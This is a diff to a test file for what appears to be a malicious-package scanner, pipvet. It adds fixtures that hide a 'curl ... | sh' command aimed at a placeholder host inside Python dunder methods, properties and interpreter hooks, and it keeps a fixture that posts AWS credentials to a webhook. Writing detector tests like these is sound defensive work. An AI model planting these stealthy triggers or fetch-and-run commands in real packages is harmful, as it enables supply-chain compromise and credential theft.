@@ -10,7 +10,7 @@ import pytest
 from test_engine import make_sdist
 
 from pipvet.analysis.engine import analyze_bytes
-from pipvet.models import Verdict
+from pipvet.models import Stage, Verdict
 
 COMMAND = "'curl -s http://x.invalid/a | sh'"
 
@@ -194,6 +194,46 @@ AT_IMPORT = {
         "import os, requests\nc = open(os.path.expanduser('~/.aws/credentials')).read()\n"
         "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': c})\n"
     ),
+    # methods Python runs by itself once an instance of a local class exists
+    "__del__": f"import os\nclass K:\n    def __del__(self):\n        os.system({COMMAND})\nK()\n",
+    "with statement": (
+        f"import os\nclass K:\n    def __enter__(self):\n        os.system({COMMAND})\n"
+        f"    def __exit__(self, *a):\n        pass\nwith K():\n    pass\n"
+    ),
+    "descriptor __set_name__": (
+        f"import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system({COMMAND})\n"
+        f"class K:\n    d = D()\n"
+    ),
+    "truth test": (
+        f"import os\nclass K:\n    def __bool__(self):\n        return os.system({COMMAND}) == 0\n"
+        f"if K():\n    pass\n"
+    ),
+    "str of an instance": (
+        f"import os\nclass K:\n    def __str__(self):\n        os.system({COMMAND})\n        return ''\n"
+        f"str(K())\n"
+    ),
+    "iteration": (
+        f"import os\nclass K:\n    def __iter__(self):\n        os.system({COMMAND})\n"
+        f"        return iter(())\nfor _ in K():\n    pass\n"
+    ),
+    "property": (
+        f"import os\nclass K:\n    @property\n    def p(self):\n        return os.system({COMMAND})\nK().p\n"
+    ),
+    "attribute lookup hook": (
+        f"import os\nclass K:\n    def __getattr__(self, name):\n        return os.system({COMMAND})\nK().x\n"
+    ),
+    # interpreter hooks: a function handed to them runs on the next import, call or error
+    "exception hook": f"import os, sys\nsys.excepthook = lambda *a: os.system({COMMAND})\n1 / 0\n",
+    "import hook": (
+        f"import builtins, os\n_real = builtins.__import__\ndef hook(*a, **k):\n    os.system({COMMAND})\n"
+        f"    return _real(*a, **k)\nbuiltins.__import__ = hook\nimport json\n"
+    ),
+    "trace function": f"import os, sys\ndef t(*a):\n    os.system({COMMAND})\nsys.settrace(t)\n",
+    "audit hook": f"import os, sys\nsys.addaudithook(lambda e, a: os.system({COMMAND}))\nopen('setup.py')\n",
+    "codec search function": (
+        f"import codecs, os\ndef find(name):\n    os.system({COMMAND})\ncodecs.register(find)\n"
+        f"'x'.encode('nope')\n"
+    ),
 }
 
 
@@ -208,6 +248,7 @@ def test_an_import_time_payload_is_caught(shape: str) -> None:
     )
     result = analyze_bytes(data, "demo-1.0.tar.gz").result
     assert result.verdict is Verdict.MALICIOUS, [(f.rule, f.severity, f.message) for f in result.findings]
+    assert not [f.evidence for f in result.findings if f.rule == "PV-ENGINE-RULE-FAILED"]
 
 
 def test_a_payload_in_a_test_folder_the_package_imports_is_caught() -> None:
@@ -263,3 +304,22 @@ def test_a_data_file_only_named_far_from_any_exec_stays_data() -> None:
     }
     result = analyze_bytes(make_sdist(files), "demo-1.0.tar.gz").result
     assert not any(f.path == "demo-1.0/demo/conf.dat" for f in result.findings)
+
+
+def test_protocol_methods_of_a_class_no_import_makes_stay_run_time() -> None:
+    """``__del__`` or a property runs only once an instance exists: a class the module only
+    defines is judged at run time, not at import."""
+    source = (
+        "import os\nclass K:\n    def __del__(self):\n        os.system('curl -s http://x.invalid/a | sh')\n"
+        "    @property\n    def p(self):\n        return os.system('curl -s http://x.invalid/a | sh')\n"
+    )
+    data = make_sdist(
+        {
+            "demo/__init__.py": source,
+            "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
+            "PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
+        }
+    )
+    result = analyze_bytes(data, "demo-1.0.tar.gz").result
+    assert result.verdict is not Verdict.MALICIOUS
+    assert {f.stage for f in result.findings if f.line in {4, 7}} == {Stage.RUNTIME}
